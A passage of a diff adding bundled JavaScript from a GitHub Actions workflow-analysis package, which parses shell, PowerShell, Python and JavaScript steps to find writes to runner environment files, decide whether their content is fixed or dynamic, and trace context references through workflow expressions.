+    let calls = 0;
+    for (const match of code.matchAll(/\.(?:write|writelines|write_text)\s*\(|\bprint\s*\(/g)) {
+        const start = match.index + match[0].length;
+        const content = { start, end: closingBracket(code, start) };
+        const isPrint = match[0].startsWith("print");
+        if (isPrint && !/\bfile\s*=/.test(code.slice(content.start, content.end)))
+            continue;
+        calls++;
+        if (!isFixedText(script, code, content))
+            return content;
+    }
+    return calls === 0 ? { start: 0, end: script.text.length } : undefined;
+}
+/** Only literals without anything expanded into them? */
+function isFixedText(script, code, { start, end }) {
+    if (holdsExpression(script.expressions, start, end))
+        return false;
+    if (script.strings.some((string) => string.start >= start && string.end <= end && string.value === undefined))
+        return false;
+    const rest = code.slice(start, end).replace(/\bfile\s*=\s*\w+/, "");
+    return /^[\s,+()[\]]*$/.test(rest);
+}
+/** The offset of the bracket that closes the one that is open at `from`. */
+function closingBracket(code, from) {
+    const limit = Math.min(code.length, from + MAX_STATEMENT);
+    let open = 0;
+    for (let at = from; at < limit; at++) {
+        const char = code[at];
+        if ("([{".includes(char))
+            open++;
+        else if (")]}".includes(char) && --open < 0)
+            return at;
+    }
+    return limit;
+}
+function program_writes_made(script, code, reference, dynamic) {
+    return {
+        file: reference.file,
+        span: statementAround(code, reference),
+        targetSpan: { start: reference.start, end: reference.end },
+        command: undefined,
+        content: dynamic ? "dynamic" : "static",
+        dynamicSpan: dynamic && { start: dynamic.start, end: Math.min(dynamic.end, script.text.length) },
+    };
+}
+/** The line of the reference, without blanks around it. */
+function statementAround(code, { start, end }) {
+    const lineStart = code.lastIndexOf("\n", start - 1) + 1;
+    const newline = code.indexOf("\n", end);
+    const lineEnd = newline < 0 ? code.length : newline;
+    const indent = code.slice(lineStart, start).search(/\S|$/);
+    return {
+        start: Math.min(lineStart + indent, start),
+        end: Math.max(end, lineStart + code.slice(lineStart, lineEnd).trimEnd().length),
+    };
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/environment-files/target.js
+const CONTEXTS = new Map([
+    ["github.env", "GITHUB_ENV"],
+    ["github.path", "GITHUB_PATH"],
+    ["github.output", "GITHUB_OUTPUT"],
+    ["github.state", "GITHUB_STATE"],
+    ["github.step_summary", "GITHUB_STEP_SUMMARY"],
+]);
+/** Tells which of the runner's files a word names: directly, through `${{ github.env }}`, or by a variable set to one. */
+class Targets {
+    script;
+    aliases = new Map();
+    names;
+    constructor(script, names) {
+        this.script = script;
+        this.names = new Set(names);
+        // Twice, so that an alias of an alias is found.
+        for (let round = 0; round < 2; round++) {
+            for (const command of script.commands)
+                for (const assignment of command.assignments)
+                    this.learn(assignment);
+        }
+    }
+    /** The file's name, such as `GITHUB_ENV`. */
+    of(word) {
+        if (!word)
+            return undefined;
+        const [part, second, ...rest] = word.parts.filter((one) => one.kind !== "literal" || one.value !== "");
+        if (!part || rest.length > 0)
+            return undefined;
+        if (second)
+            return this.script.shell === "unknown" ? this.powershellName(part, second) : undefined;
+        if (part.kind === "expression")
+            return this.ofExpression(part.start, part.end);
+        if (part.kind !== "variable" || part.operator === "length" || part.operator === "indirect")
+            return undefined;
+        return this.ofVariable(part.name);
+    }
+    ofVariable(name) {
+        const { shell } = this.script;
+        const folds = shell !== "bash" && shell !== "sh" && shell !== "unknown";
+        const bare = folds ? name.toUpperCase().replace(/^ENV:/, "") : name;
+        // `$GITHUB_ENV` in PowerShell is a variable of the script, not the runner's.
+        const isRunners = isPowerShell(shell) ? name.startsWith("env:") : true;
+        if (isRunners && this.names.has(bare))
+            return bare;
+        return this.aliases.get(folds ? name.toUpperCase() : name);
+    }
+    ofExpression(start, end) {
+        const body = this.script.text
+            .slice(start + 3, end - 2)
+            .trim()
+            .toLowerCase();
+        const name = CONTEXTS.get(body);
+        return name !== undefined && this.names.has(name) ? name : undefined;
+    }
+    /** `$env:GITHUB_ENV` in a script whose shell isn't known. */
+    powershellName(part, rest) {
+        if (part.kind !== "variable" || part.name.toLowerCase() !== "env" || rest.kind !== "literal")
+            return undefined;
+        const name = rest.value.slice(1).toUpperCase();
+        return rest.value.startsWith(":") && this.names.has(name) ? name : undefined;
+    }
+    learn(assignment) {
+        const file = assignment.values.length === 1 ? this.of(assignment.values[0]) : undefined;
+        if (file === undefined)
+            return;
+        const { shell } = this.script;
+        const isExact = shell === "bash" || shell === "sh" || shell === "unknown";
+        this.aliases.set(isExact ? assignment.name : assignment.name.toUpperCase(), file);
+    }
+}
+function isPowerShell(shell) {
+    return shell === "pwsh" || shell === "powershell";
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/pwsh/aliases.js
+const ALIASES = new Map([
+    ["ac", "add-content"],
+    ["cat", "get-content"],
+    ["copy", "copy-item"],
+    ["cp", "copy-item"],
+    ["cpi", "copy-item"],
+    ["curl", "invoke-webrequest"],
+    ["echo", "write-output"],
+    ["foreach", "foreach-object"],
+    ["%", "foreach-object"],
+    ["gc", "get-content"],
+    ["iex", "invoke-expression"],
+    ["ii", "invoke-item"],
+    ["irm", "invoke-restmethod"],
+    ["iwr", "invoke-webrequest"],
+    ["move", "move-item"],
+    ["mv", "move-item"],
+    ["ni", "new-item"],
+    ["saps", "start-process"],
+    ["sc", "set-content"],
+    ["select", "select-object"],
+    ["sls", "select-string"],
+    ["start", "start-process"],
+    ["tee", "tee-object"],
+    ["type", "get-content"],
+    ["wget", "invoke-webrequest"],
+    ["where", "where-object"],
+    ["?", "where-object"],
+    ["write", "write-output"],
+]);
+/**
+ * The command behind an alias of PowerShell, in lower case; other names in lower case as they are. `curl` and `wget`
+ * are aliases in Windows PowerShell only, `cat`, `cp`, `mv` and `tee` on Windows only: who must tell them apart looks at
+ * the name itself.
+ */
+function pwshAlias(name) {
+    const lower = name.toLowerCase();
+    return ALIASES.get(lower) ?? lower;
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/environment-files/constants.js
+/**
+ * Variables whose value no event, input or repository file decides: the runner's folders, numbers and names.
+ *
+ * @see GitHub's reference of default environment variables; names that hold a ref, an actor or a title aren't here
+ */
+const CONSTANTS = new Set([
+    "ANDROID_HOME",
+    "APPDATA",
+    "BASHPID",
+    "CI",
+    "EPOCHREALTIME",
+    "EPOCHSECONDS",
+    "EUID",
+    "GITHUB_ACTION_PATH",
+    "GITHUB_API_URL",
+    "GITHUB_EVENT_NAME",
+    "GITHUB_EVENT_PATH",
+    "GITHUB_GRAPHQL_URL",
+    "GITHUB_JOB",
+    "GITHUB_REPOSITORY",
+    "GITHUB_REPOSITORY_ID",
+    "GITHUB_REPOSITORY_OWNER",
+    "GITHUB_REPOSITORY_OWNER_ID",
+    "GITHUB_RUN_ATTEMPT",
+    "GITHUB_RUN_ID",
+    "GITHUB_RUN_NUMBER",
+    "GITHUB_SERVER_URL",
+    "GITHUB_SHA",
+    "GITHUB_WORKFLOW_SHA",
+    "GITHUB_WORKSPACE",
+    "HOME",
+    "HOSTNAME",
+    "HOSTTYPE",
+    "LINENO",
+    "LOCALAPPDATA",
+    "MACHTYPE",
+    "OLDPWD",
+    "OSTYPE",
+    "PATH",
+    "PROGRAMFILES",
+    "PROGRAMFILES(X86)",
+    "PWD",
+    "RANDOM",
+    "RUNNER_ARCH",
+    "RUNNER_NAME",
+    "RUNNER_OS",
+    "RUNNER_TEMP",
+    "RUNNER_TOOL_CACHE",
+    "RUNNER_WORKSPACE",
+    "SECONDS",
+    "SHELL",
+    "SYSTEMROOT",
+    "TEMP",
+    "TMP",
+    "TMPDIR",
+    "UID",
+    "USER",
+    "USERPROFILE",
+]);
+/** Numbers of the shell itself. */
+const SPECIAL = new Set(["?", "$", "!", "#", "-"]);
+/** Is the variable fixed by the runner or the shell? PowerShell's `env:X` is asked for as `env:X`. */
+function isConstant(name) {
+    const bare = name.startsWith("env:") ? name.slice(4).toUpperCase() : name;
+    return CONSTANTS.has(bare) || SPECIAL.has(bare) || /^(?:pwd|home|PSScriptRoot|true|false|null)$/i.test(name);
+}
+/** Commands that print nothing that others decide, whatever their options: numbers, dates, folders of the runner. */
+const CONSTANT_OUTPUT = new Set([
+    "arch",
+    "date",
+    "get-date",
+    "get-location",
+    "hostname",
+    "id",
+    "mktemp",
+    "new-guid",
+    "nproc",
+    "pwd",
+    "seq",
+    "sw_vers",
+    "uname",
+    "uuidgen",
+    "wc",
+    "whoami",
+]);
+/** Commands that print what their arguments say. */
+const PRINTS_ARGUMENTS = new Set([
+    "basename",
+    "command",
+    "cygpath",
+    "dirname",
+    "echo",
+    "join-path",
+    "printf",
+    "realpath",
+    "which",
+    "write-host",
+    "write-output",
+]);
+/** Commands that print what comes in, changed by nothing but their arguments, if those name no file. */
+const FILTERS = new Set([
+    "base64",
+    "cut",
+    "md5sum",
+    "rev",
+    "sha1sum",
+    "sha256sum",
+    "sort",
+    "tac",
+    "tr",
+    "uniq",
+    "xxd",
+]);
+/** Commands that print nothing to standard output, or nothing that matters. */
+const SILENT = new Set([
+    ":",
+    "((",
+    "[",
+    "[[",
+    "break",
+    "cd",
+    "chmod",
+    "continue",
+    "declare",
+    "exit",
+    "export",
+    "false",
+    "let",
+    "local",
+    "mkdir",
+    "readonly",
+    "return",
+    "rm",
+    "set",
+    "setlocal",
+    "shift",
+    "shopt",
+    "sleep",
+    "test",
+    "touch",
+    "trap",
+    "true",
+    "unset",
+    "wait",
+]);
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/environment-files/values.js
+
+
+
+
+/**
+ * Tells what of a script is fixed. Questions are answered by the first piece that isn't: a range of the script, or
+ * `undefined` when everything is.
+ */
+class Values {
+    script;
+    assigned = new Map();
+    functions = new Map();
+    open = new Set();
+    known = new Map();
+    foldsCase;
+    isPowerShell;
+    constructor(script) {
+        this.script = script;
+        this.isPowerShell = isPowerShell(script.shell);
+        this.foldsCase = this.isPowerShell || script.shell === "cmd";
+        for (const command of script.commands)
+            this.learnCommand(command);
+        for (const group of script.groups)
+            this.learnGroup(group);
+    }
+    /** The first piece of a word that isn't fixed. */
+    dynamicIn(word) {
+        if (this.isPowerShell && /^\[[^\]]*\]::/.test(word.text))
+            return word;
+        return this.dynamicPart(word.parts);
+    }
+    /** What a command, a group or a stage of a pipeline prints. */
+    dynamicOutput(stage) {
+        if (stage.kind !== "command")
+            return this.dynamicList(stage.commands);
+        const { name, args, wrappers } = effectiveCommand(stage);
+        if (!name)
+            return this.isPowerShell ? this.dynamicWords(args) : undefined;
+        if (wrappers.includes("xargs")) {
+            // What comes in is arguments too.
+            const fed = this.dynamicInput(stage);
+            if (fed)
+                return fed;
+        }
+        const program = this.programOf(name);
+        if (program === undefined)
+            return name;
+        return this.dynamicProgram(program, args, stage);
+    }
+    /** What comes in on a command's standard input. */
+    dynamicInput(command) {
+        const input = command.redirects.findLast(({ operator }) => operator.startsWith("<"));
+        if (input)
+            return this.dynamicRedirect(input);
+        const { pipeline } = command;
+        if (pipeline && pipeline.index > 0)
+            return this.dynamicOutput(pipeline.stages[pipeline.index - 1]);
+        for (let group = command.place.group; group; group = group.place.group) {
+            const isFed = (group.pipeline?.index ?? 0) > 0 || group.redirects.some(({ operator }) => operator.startsWith("<"));
+            if (isFed)
+                return command;
+        }
+        // A step has no input of its own.
+        return undefined;
+    }
+    /** The name of a program without its folder, aliases resolved in PowerShell. */
+    programOf(name) {
+        const literal = name?.literal;
+        if (literal === undefined)
+            return undefined;
+        const base = literal.slice(Math.max(literal.lastIndexOf("/"), literal.lastIndexOf("\\")) + 1);
+        if (this.isPowerShell)
+            return pwshAlias(base);
+        return this.foldsCase ? base.toLowerCase().replace(/^@/, "") : base;
+    }
+    dynamicWords(words) {
+        for (const word of words) {
+            const found = this.dynamicIn(word);
+            if (found)
+                return found;
+        }
+        return undefined;
+    }
+    dynamicProgram(program, args, command) {
+        if (SILENT.has(program) || (this.foldsCase && program === "set"))
+            return undefined;
+        if (PRINTS_ARGUMENTS.has(program) || CONSTANT_OUTPUT.has(program))
+            return this.dynamicWords(args);
+        if (program === "cat" || FILTERS.has(program))
+            return this.dynamicFilter(program, args, command);
+        if (program === "git" && printsCommit(args))
+            return undefined;
+        if (program === "grep" && args.some(({ literal }) => /^-[a-z]*q/.test(literal ?? "")))
+            return undefined;
+        const body = this.functions.get(program);
+        if (body)
+            return this.once(`function ${program}`, () => this.dynamicList(body.commands)) ? command : undefined;
+        return command;
+    }
+    dynamicFilter(program, args, command) {
+        const file = args.find((word, index) => {
+            const text = word.literal;
+            if (text === undefined)
+                return true;
+            if (text === "-" || text.startsWith("-") || program === "tr")
+                return false;
+            // The value of an option such as `cut -d = -f 2`.
+            return program === "cat" || !/^-[a-z]$/.test(args[index - 1]?.literal ?? "");
+        });
+        if (program === "tr")
+            return this.dynamicWords(args) ?? this.dynamicInput(command);
+        return file ?? this.dynamicInput(command);
+    }
+    /** Commands that run one after the other, with what each prints. */
+    dynamicList(commands) {
+        for (const command of commands) {
+            const { pipeline } = command;
+            if (pipeline && pipeline.index < pipeline.stages.length - 1)
+                continue;
+            if (command.redirects.some(takesOutput))
+                continue;
+            if (isWithin(command, "function", commands))
+                continue;
+            const found = this.dynamicOutput(command);
+            if (found)
+                return found;
+        }
+        return undefined;
+    }
+    dynamicRedirect(redirect) {
+        if (redirect.heredoc)
+            return this.dynamicIn(redirect.heredoc.content);
+        if (redirect.operator === "<<<" && redirect.target)
+            return this.dynamicIn(redirect.target);
+        return redirect.target ?? redirect;
+    }
+    dynamicPart(parts) {
+        for (const part of parts) {
+            const found = this.isDynamicPart(part);
+            if (found)
+                return found;
+        }
+        return undefined;
+    }
+    isDynamicPart(part) {
+        switch (part.kind) {
+            case "literal":
+                return undefined;
+            case "expression":
+                return part;
+            case "variable":
+                return this.dynamicVariable(part);
+            case "substitution":
+                return this.dynamicList(part.commands);
+            case "arithmetic":
+                // A number, unless an expression is pasted into it.
+                return part.parts.find(({ kind }) => kind === "expression");
+            case "glob":
+                // Names of files. A lone `?` is more often part of an address.
+                if (part.pattern !== undefined)
+                    return part.pattern === "?" ? undefined : part;
+                return this.dynamicPart(part.parts);
+        }
+    }
+    dynamicVariable(part) {
+        const inOperand = this.dynamicPart(part.operand);
+        if (inOperand)
+            return inOperand;
+        if (part.operator === "length" || part.operator === "+" || part.operator === ":+")
+            return undefined;
+        if (part.operator === "indirect")
+            return part;
+        return this.isFixed(part.name) ? undefined : part;
+    }
+    isFixed(name) {
+        const key = this.foldsCase ? name.toLowerCase() : name;
+        const assigned = this.assigned.get(key);
+        if (!assigned)
+            return isConstant(name) || (this.script.shell === "cmd" && isConstant(name.toUpperCase()));
+        const known = this.known.get(key);
+        if (known !== undefined)
+            return known;
+        // `PATH="$PATH:/x"`: what it was before decides, and that is another assignment or the runner's value.
+        if (this.open.has(key))
+            return isConstant(name) || assigned.length > 1;
+        this.open.add(key);
+        const fixed = assigned.every((words) => words !== null && this.dynamicWords(words) === undefined);
+        this.open.delete(key);
+        // Inside a cycle the answer is good for this question only.
+        if (this.open.size === 0)
+            this.known.set(key, fixed);
+        return fixed;
+    }
+    /** Asks a question that may lead back to itself, where the answer is "not fixed". */
+    once(key, question) {
+        if (this.open.has(key))
+            return true;
+        this.open.add(key);
+        const answer = question() !== undefined;
+        this.open.delete(key);
+        return answer;
+    }
+    learnCommand(command) {
+        const isShells = !this.foldsCase;
+        for (const { name, values } of command.assignments) {
+            // `X=1 command`: for that command alone.
+            if (isShells && command.name)
+                continue;
+            const comesFromCommand = this.isPowerShell && command.name !== undefined;
+            const isAsked = !isShells && command.args.some(({ text }) => /^\/p$/i.test(text));
+            this.learn(name, comesFromCommand || isAsked ? null : values);
+        }
+        const program = this.programOf(effectiveCommand(command).name);
+        if (program === undefined || !isShells)
+            return;
+        if (DECLARES.has(program)) {
+            for (const word of command.args) {
+                const name = /^([A-Za-z_][A-Za-z0-9_]*)\+?=/.exec(word.text)?.[1];
+                if (name)
+                    this.learn(name, [word]);
+            }
+        }
+        else if (READS.has(program)) {
+            for (const { literal } of command.args)
+                if (literal && /^\w+$/.test(literal))
+                    this.learn(literal, null);
+        }
+        else if (program === "printf" && command.args[0]?.literal === "-v") {
+            this.learn(command.args[1]?.literal ?? "", command.args.slice(2));
+        }
+    }
+    learnGroup(group) {
+        if (group.kind === "function" && group.name !== undefined)
+            this.functions.set(group.name, group);
+        const isLoop = group.kind === "for" || group.kind === "select";
+        if (isLoop && group.name !== undefined) {
+            this.learn(group.name, group.kind === "for" && group.words.length > 0 ? group.words : null);
+        }
+    }
+    learn(name, words) {
+        const key = this.foldsCase ? name.toLowerCase() : name;
+        const before = this.assigned.get(key);
+        if (before)
+            before.push(words);
+        else
+            this.assigned.set(key, [words]);
+    }
+}
+const DECLARES = new Set(["export", "declare", "local", "readonly", "typeset"]);
+const READS = new Set(["read", "mapfile", "readarray", "getopts"]);
+/** Redirects of standard output. */
+function takesOutput({ operator, descriptor }) {
+    return ((operator.includes(">") &&
+        operator !== "<>" &&
+        operator !== ">&" &&
+        (descriptor === undefined || descriptor === "1" || descriptor === "*")) ||
+        operator.startsWith("&>"));
+}
+/** `git rev-parse HEAD`: a hash. With `--abbrev-ref` it would be a branch's name. */
+function printsCommit(args) {
+    const words = args.map(({ literal }) => literal);
+    const [first, ...rest] = words;
+    return (first === "rev-parse" &&
+        rest.length > 0 &&
+        rest.every((word) => word === "HEAD" || word === "--verify" || word?.startsWith("--short")));
+}
+/** Is the command in a function that is defined among `commands`? Defining one prints nothing. */
+function isWithin(command, kind, commands) {
+    const outside = commands[0]?.place.inFunction;
+    return kind === "function" && command.place.inFunction !== undefined && command.place.inFunction !== outside;
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/environment-files/shell-writes.js
+
+
+
+/** Writes by the commands of a shell script. */
+function shellWrites(script, names) {
+    const finder = new Finder(script, names);
+    for (const command of script.commands)
+        finder.command(command);
+    for (const group of script.groups)
+        finder.group(group);
+    return finder.writes;
+}
+class Finder {
+    writes = [];
+    targets;
+    values;
+    isPowerShell;
+    constructor(script, names) {
+        this.targets = new Targets(script, names);
+        this.values = new Values(script);
+        this.isPowerShell = isPowerShell(script.shell);
+    }
+    group(group) {
+        for (const redirect of group.redirects) {
+            const file = this.fileOf(redirect);
+            if (file !== undefined)
+                this.add(file, group, redirect.target, undefined, this.values.dynamicOutput(group));
+        }
+    }
+    command(command) {
+        const { name, args } = effectiveCommand(command);
+        const program = this.values.programOf(name);
+        for (const redirect of command.redirects) {
+            const file = this.fileOf(redirect);
+            if (file === undefined)
+                continue;
+            const isFixed = program !== "exec" && takesOutput(redirect);
+            // After `exec >> file` everything that follows goes there; errors of a program are its own words.
+            const dynamic = isFixed ? this.values.dynamicOutput(command) : command;
+            this.add(file, command, redirect.target, command, dynamic);
+        }
+        if (program !== undefined && args.length > 0) {
+            if (this.isPowerShell)
+                this.cmdlet(program, args, command);
+            else
+                this.program(program, args, command);
+        }
+        if (this.isPowerShell)
+            for (const word of command.args)
+                this.method(word, command);
+    }
+    fileOf(redirect) {
+        if (redirect.heredoc || !redirect.operator.includes(">"))
+            return undefined;
+        return this.targets.of(redirect.target);
+    }
+    program(program, args, command) {
+        if (program === "tee" || program === "sponge") {
+            for (const word of args) {
+                const file = this.targets.of(word);
+                if (file !== undefined)
+                    this.add(file, command, word, command, this.values.dynamicInput(command));
+            }
+        }
+        else if (COPIES.has(program))
+            this.writesTo(args[args.length - 1], command);
+        else if (program === "sed" && args.some(({ literal }) => /^-[a-z]*i|^--in-place/i.test(literal ?? ""))) {
+            this.writesTo(args[args.length - 1], command);
+        }
+        else {
+            args.forEach((word, index) => {
+                if (index > 0 && OUTPUT_OPTIONS.has(args[index - 1]?.literal ?? ""))
+                    this.writesTo(word, command);
+            });
+        }
+    }
+    /** What a program writes by itself isn't fixed. */
+    writesTo(word, command) {
+        const file = this.targets.of(word);
+        if (word && file !== undefined)
+            this.add(file, command, word, command, command);
+    }
+    cmdlet(program, args, command) {
+        const isContent = program === "add-content" || program === "set-content";
+        if (!isContent && program !== "out-file" && program !== "tee-object") {
+            if (program === "copy-item" || program === "move-item")
+                for (const word of args.slice(1))
+                    this.writesTo(word, command);
+            return;
+        }
+        const { paths, values } = cmdletParameters(args);
+        for (const path of paths) {
+            const file = this.targets.of(path);
+            if (file === undefined)
+                continue;
+            const dynamic = values.length > 0 ? this.values.dynamicWords(values) : this.values.dynamicInput(command);
+            this.add(file, command, path, command, dynamic);
+            return;
+        }
+    }
+    /** `[IO.File]::AppendAllText($env:GITHUB_ENV, "…")`. */
+    method(word, command) {
+        const call = word.parts.find((part) => part.kind === "substitution");
+        if (!call || !FILE_METHOD.test(word.text.slice(0, call.start - word.start)))
+            return;
+        const [path, ...content] = call.commands[0]?.args ?? [];
+        const file = this.targets.of(path);
+        if (path && file !== undefined)
+            this.add(file, command, path, command, this.values.dynamicWords(content));
+    }
+    add(file, writer, target, command, dynamic) {
+        this.writes.push({
+            file,
+            span: { start: writer.start, end: writer.end },
+            targetSpan: { start: target.start, end: target.end },
+            command,
+            content: dynamic ? "dynamic" : "static",
+            dynamicSpan: dynamic && { start: dynamic.start, end: dynamic.end },
+        });
+    }
+}
+const COPIES = new Set(["cp", "mv", "install", "ln", "copy", "move"]);
+const OUTPUT_OPTIONS = new Set(["-o", "--output", "-O", "--output-document", "--out"]);
+const FILE_METHOD = /\[(?:System\.)?IO\.File\]::(?:Append|Write)All(?:Text|Lines|Bytes)(?:Async)?$/i;
+const SWITCH = /^-(?:append|noclobber|force|nonewline|passthru|whatif|confirm|verbose|debug)$/i;
+const PATH_PARAMETER = /^-(?:filepath|path|literalpath|pspath|lp)$/i;
+const VALUE_PARAMETER = /^-(?:value|inputobject)$/i;
+/**
+ * What `Out-File`, `Add-Content`, `Set-Content` and `Tee-Object` are given: the path first, the value second when they
+ * aren't named.
+ */
+function cmdletParameters(args) {
+    const paths = [];
+    const values = [];
+    for (let index = 0; index < args.length; index++) {
+        const word = args[index];
+        const next = args[index + 1];
+        const { text } = word;
+        if (SWITCH.test(text))
+            continue;
+        if (/^-[A-Za-z]/.test(text)) {
+            if (next && PATH_PARAMETER.test(text))
+                paths.push(next);
+            else if (next && VALUE_PARAMETER.test(text))
+                values.push(next);
+            index++;
+        }
+        else if (paths.length === 0)
+            paths.push(word);
+        else
+            values.push(word);
+    }
+    return { paths, values };
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/environment-files/write.js
+/** The files through which a step hands values to later ones: variables, `PATH`, outputs, state. */
+const ENVIRONMENT_FILES = ["GITHUB_ENV", "GITHUB_PATH", "GITHUB_OUTPUT", "GITHUB_STATE"];
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/environment-files/index.js
+
+
+
+
+
+
+/**
+ * Every write of a script to the files that `names` name, in source order: redirects of commands and groups, `tee`, what
+ * PowerShell, cmd, Python and JavaScript do for it, also in a program inside a here-document.
+ */
+function environmentFileWrites(script, names = ENVIRONMENT_FILES) {
+    if (!mentions(script.text, names) && !/github\s*\.\s*(?:env|path|output|state|step_summary)/i.test(script.text))
+        return [];
+    const writes = writesOf(script, names);
+    writes.sort((a, b) => a.span.start - b.span.start || a.targetSpan.start - b.targetSpan.start);
+    return writes.filter((write, index) => !isSameWrite(write, writes[index - 1]));
+}
+/** A command that names the file twice writes once. */
+function isSameWrite(write, before) {
+    return write.command !== undefined && write.command === before?.command && write.file === before.file;
+}
+function writesOf(script, names) {
+    if (script.shell === "python")
+        return pythonWrites(script, names);
+    if (script.shell === "javascript")
+        return javascriptWrites(script, names);
+    const writes = shellWrites(script, names);
+    for (const { shell, start, end } of embeddedPrograms(script)) {
+        const text = script.text.slice(start, end);
+        if (!mentions(text, names))
+            continue;
+        for (const write of environmentFileWrites(parseScript(text, shell), names))
+            writes.push(moved(write, start));
+    }
+    return writes;
+}
+function moved(write, by) {
+    const move = ({ start, end }) => ({ start: start + by, end: end + by });
+    return {
+        ...write,
+        span: move(write.span),
+        targetSpan: move(write.targetSpan),
+        // Its offsets are offsets into the inner text.
+        command: undefined,
+        dynamicSpan: write.dynamicSpan && move(write.dynamicSpan),
+    };
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/words.js
+/** Every part of a word, those inside operands, arithmetic and globs too; not what is inside substitutions. */
+function* words_partsOf(parts) {
+    for (const part of parts) {
+        yield part;
+        if (part.kind === "variable")
+            yield* words_partsOf(part.operand);
+        else if (part.kind === "arithmetic" || part.kind === "glob")
+            yield* words_partsOf(part.parts);
+    }
+}
+/** The variables that a word expands, without those inside its substitutions. */
+function variablesOf(word) {
+    return [...words_partsOf(word.parts)].filter((part) => part.kind === "variable");
+}
+/** The `${{ }}` that a word holds, without those inside its substitutions. */
+function expressionsOf(word) {
+    return [...words_partsOf(word.parts)].filter((part) => part.kind === "expression");
+}
+/** The substitutions of a word, outermost only. */
+function substitutionsOf(word) {
+    return [...words_partsOf(word.parts)].filter((part) => part.kind === "substitution");
+}
+const ALWAYS = new Set(["if-test", "loop-test"]);
+/** May the script run without running the command? A function's body counts as conditional: it runs when called. */
+function isConditional(command) {
+    const { place } = command;
+    if (place.inFunction !== undefined || place.conditions.some((condition) => !ALWAYS.has(condition)))
+        return true;
+    return place.nestedIn !== undefined && isConditional(place.nestedIn);
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/index.js
+
+
+
+
+
+
+
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/env.js
+/** An `env:` block. GitHub also accepts one expression in its place: then `entries` is empty and `dynamic` is that scalar. */
+class EnvBlock {
+    level;
+    entry;
+    parent;
+    #entries;
+    constructor(level, 
+    /** The `env` key with its value. */
+    entry, 
+    /** The step, job, workflow or container that it stands in. */
+    parent) {
+        this.level = level;
+        this.entry = entry;
+        this.parent = parent;
+    }
+    get map() {
+        return this.entry.value.kind === "map" ? this.entry.value : undefined;
+    }
+    get dynamic() {
+        const { value } = this.entry;
+        return value.kind === "scalar" && value.value.includes("${{") ? value : undefined;
+    }
+    get entries() {
+        this.#entries ??= (this.map?.entries ?? []).map((entry) => ({
+            level: this.level,
+            name: entry.key.value,
+            entry,
+            value: entry.value.kind === "scalar" ? entry.value : null,
+            block: this,
+        }));
+        return this.#entries;
+    }
+    /** Names have no case in the `env` context and on Windows; elsewhere variables have. The exact name wins. */
+    get(name) {
+        const lower = name.toLowerCase();
+        return (this.entries.find((entry) => entry.name === name) ??
+            this.entries.find((entry) => entry.name.toLowerCase() === lower));
+    }
+}
+function envBlock(level, map) {
+    const entry = map.entry("env");
+    return entry ? new EnvBlock(level, entry, map) : null;
+}
+const TRUE_WORDS = new Set(["1", "true", "$true"]);
+/** Is a switch of the runner on? It reads `true`, `1` and `$true`, in any case (actions/runner, `StringUtil.ConvertToBoolean`). */
+function isSwitchedOn(node) {
+    return node?.kind === "scalar" && TRUE_WORDS.has(node.value.trim().toLowerCase());
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/ast.js
+/** The expressions directly inside one. */
+function childrenOf(expression) {
+    switch (expression.kind) {
+        case "literal":
+        case "context":
+            return [];
+        case "property":
+        case "filter":
+            return [expression.object];
+        case "index":
+            return [expression.object, expression.index];
+        case "call":
+            return expression.args;
+        case "not":
+            return [expression.operand];
+        default:
+            return [expression.left, expression.right];
+    }
+}
+/** Calls `visit` for an expression and everything in it, outermost first. */
+function visitExpression(expression, visit) {
+    visit(expression);
+    for (const child of childrenOf(expression))
+        visitExpression(child, visit);
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/contexts.js
+
+/** `github.event.issue.title`, `secrets['NAME']`, `a.*.b`; undefined for what doesn't begin with a context. */
+function contextPath(expression) {
+    const segments = [];
+    let exact = true;
+    for (let node = expression;; node = node.object) {
+        switch (node.kind) {
+            case "context":
+                segments.push(node.name);
+                return { segments: segments.reverse(), exact };
+            case "property":
+                segments.push(node.name);
+                break;
+            case "filter":
+                segments.push("*");
+                break;
+            case "index": {
+                const { index } = node;
+                const isName = index.kind === "literal" && typeof index.value === "string";
+                segments.push(isName ? index.value.toLowerCase() : "*");
+                if (index.kind !== "literal")
+                    exact = false;
+                break;
+            }
+            default:
+                return undefined;
+        }
+    }
+}
+/** Every context access of an expression, those in indexes and conditions too. */
+function references(expression) {
+    const found = [];
+    collect(expression, found);
+    return found;
+}
+function collect(expression, found) {
+    const path = contextPath(expression);
+    if (!path) {
+        for (const child of childrenOf(expression))
+            collect(child, found);
+        return;
+    }
+    found.push({ ...path, node: expression });
+    collectIndexes(expression, found);
+}
+/** `a[b.c].d` reads `b.c`, too. */
+function collectIndexes(expression, found) {
+    if (expression.kind === "index")
+        collect(expression.index, found);
+    if (expression.kind === "index" || expression.kind === "property" || expression.kind === "filter") {
+        collectIndexes(expression.object, found);
+    }
+}
+/** Functions whose result is `true`, `false` or a hash, whatever they are given. */
+const CLEAN_FUNCTIONS = new Set([
+    "always",
+    "cancelled",
+    "contains",
+    "endswith",
+    "failure",
+    "hashfiles",
+    "startswith",
+    "success",
+]);
+/**
+ * The context accesses whose text can be part of the result, each once a place.
+ *
+ * Comparisons and tests give `true` or `false`; `a && b` gives `a` only where `a` is empty, false or zero; everything else
+ * hands on what it is given.
+ */
+function dataflow(expression) {
+    const found = [];
+    collectCarried(expression, AS_IT_IS, found);
+    return found;
+}
+const AS_IT_IS = { isJson: false, decodings: 0 };
+function encodedBy(name, outer) {
+    if (name === "fromjson")
+        return { ...outer, decodings: outer.decodings + 1 };
+    if (name !== "tojson")
+        return outer;
+    return outer.decodings > 0 ? { ...outer, decodings: outer.decodings - 1 } : { ...outer, isJson: true };
+}
+function collectCarried(expression, encoding, found) {
+    const path = contextPath(expression);
+    if (path) {
+        found.push({ ...path, node: expression, throughToJson: encoding.isJson });
+        return;
